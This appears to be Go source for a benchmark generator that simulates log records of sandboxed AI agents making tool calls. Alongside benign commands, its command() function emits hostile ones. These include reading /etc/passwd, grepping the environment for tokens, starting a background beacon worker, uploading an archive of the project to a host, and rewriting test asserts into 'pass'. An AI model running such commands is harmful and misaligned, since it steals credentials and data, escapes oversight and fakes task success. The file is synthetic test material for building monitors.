package bench

import (
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"math"
	"math/rand"
	"sort"
	"time"
)

// Shape of the generated incident.
const (
	seed    = 20260721
	nAgents = 40
	nHosts  = 2000
	nNodes  = 8
	// DefaultSpan is the time the records are spread over, unless asked
	// otherwise: at more records, the same span makes each agent busier
	// (ten million records put ten times the events in every window)
	DefaultSpan = 6 * time.Hour
)

// start is when the generated incident begins.
var start = time.Date(2026, 7, 21, 8, 0, 0, 0, time.UTC)

// agent is one agent under evaluation and the sandbox it runs in.
type agent struct {
	name, session, sandbox, container, ip, node, pod, model, objective, cred string
	calls, pid                                                               int
	step                                                                     int // position in its tool-call cycle
	callID, cmd, host                                                        string
	deny                                                                     bool
}

// world holds what every generated record draws on.
type world struct {
	rnd     *rand.Rand
	agents  []*agent
	cumAg   []float64 // cumulative agent activity weights
	hosts   []string
	hostIPs []string
	zipf    *rand.Zipf
}

var models = []string{"acme-large-2026-06", "acme-medium-2026-05", "open-mixture-8x22b", "acme-large-2026-07-rc1"}

var objectives = []string{
	"make the test suite in /work/app pass",
	"upgrade the dependencies of /work/svc and fix the build",
	"write a data loader for the parquet files in /data",
	"profile /work/api and remove the slowest endpoint's N+1 queries",
	"port the bash deploy scripts to a Makefile",
}

// popular hosts head the Zipf distribution; the rest are generated.
var popular = []string{
	"pypi.org", "files.pythonhosted.org", "github.com", "api.github.com",
	"objects.githubusercontent.com", "registry.npmjs.org", "proxy.golang.org",
	"huggingface.co", "storage.googleapis.com", "s3.amazonaws.com", "169.254.169.254",
	"deb.debian.org", "security.debian.org", "raw.githubusercontent.com", "pastebin.com",
	"transfer.sh", "ngrok-free.app", "api.openai.com", "sum.golang.org", "crates.io",
}

var hostWords = []string{"api", "cdn", "static", "edge", "files", "mirror", "auth", "telemetry", "img", "dl"}
var hostDomains = []string{"cloudfront.net", "fastly-edge.net", "akamaized.net", "example-saas.io", "paste-it.dev", "bucket-store.com", "metrics-hub.net", "pkg-cache.org"}

func newWorld() *world {
	w := &world{rnd: rand.New(rand.NewSource(seed))}
	var cum float64
	for i := 0; i < nAgents; i++ {
		sum := sha256.Sum256([]byte(fmt.Sprintf("container-%d", i)))
		a := &agent{
			name:      fmt.Sprintf("agent-%02d", i+1),
			session:   fmt.Sprintf("s-%03d", 100+i),
			sandbox:   fmt.Sprintf("sb-%02d", i+1),
			container: hex.EncodeToString(sum[:]),
			ip:        fmt.Sprintf("10.0.%d.%d", 3+i/50, 10+i%50),
			node:      fmt.Sprintf("eval-node-%d", i%nNodes+1),
			pod:       fmt.Sprintf("agent-%02d-sandbox", i+1),
			model:     models[i%len(models)],
			objective: objectives[i%len(objectives)],
			cred:      fmt.Sprintf("tok-%d", 900+i),
			pid:       1000 + 37*i,
		}
		w.agents = append(w.agents, a)
		// A few agents are far busier than the rest, as in real runs.
		cum += 1 / math.Pow(float64(i+1), 0.6)
		w.cumAg = append(w.cumAg, cum)
	}
	for i := range w.cumAg {
		w.cumAg[i] /= cum
	}
	w.hosts = append(w.hosts, popular...)
	for i := len(popular); i < nHosts; i++ {
		w.hosts = append(w.hosts, fmt.Sprintf("%s-%d.%s", hostWords[i%len(hostWords)], i, hostDomains[(i/len(hostWords))%len(hostDomains)]))
	}
	for i, h := range w.hosts {
		if h == "169.254.169.254" {
			w.hostIPs = append(w.hostIPs, h)
			continue
		}
		w.hostIPs = append(w.hostIPs, fmt.Sprintf("%d.%d.%d.%d", 23+i%180, (i*7)%256, (i*13)%256, 1+i%250))
	}
	w.zipf = rand.NewZipf(w.rnd, 1.05, 4, uint64(nHosts-1))
	return w
}

// pickAgent draws an agent by activity weight.
func (w *world) pickAgent() *agent {
	x := w.rnd.Float64()
	return w.agents[sort.SearchFloat64s(w.cumAg, x)%nAgents]
}

// pickHost draws a destination: popular ones often, the long tail rarely.
func (w *world) pickHost() int { return int(w.zipf.Uint64()) }

func (w *world) pick(xs []string) string { return xs[w.rnd.Intn(len(xs))] }

// command is a tool call an agent makes; some reach a host.
func (w *world) command(host string) string {
	switch w.rnd.Intn(14) {
	case 0, 1:
		return "pytest -q tests/ -x --maxfail=3"
	case 2:
		return "pip install -r requirements.txt --index-url https://" + host + "/simple"
	case 3, 4:
		return "curl -sS -o /tmp/payload.bin https://" + host + "/v1/assets/" + fmt.Sprint(w.rnd.Intn(5000))
	case 5:
		return "git clone https://" + host + "/org/repo-" + fmt.Sprint(w.rnd.Intn(300)) + ".git /work/vendor"
	case 6:
		return "cat /etc/passwd"
	case 7:
		return "nohup python3 /tmp/.cache/worker.py --beacon " + host + " &"
	case 8:
		return "ls -la /work/app/src"
	case 9:
		return "env | grep -i token"
	case 10:
		return "tar czf /tmp/out.tgz /work/app && curl -T /tmp/out.tgz https://" + host + "/upload"
	case 11:
		return "python3 -m http.server 8080"
	case 12:
		return "sed -i s/assert/pass/ tests/test_api.py"
	}
	return "go build ./... && go test ./..."
}
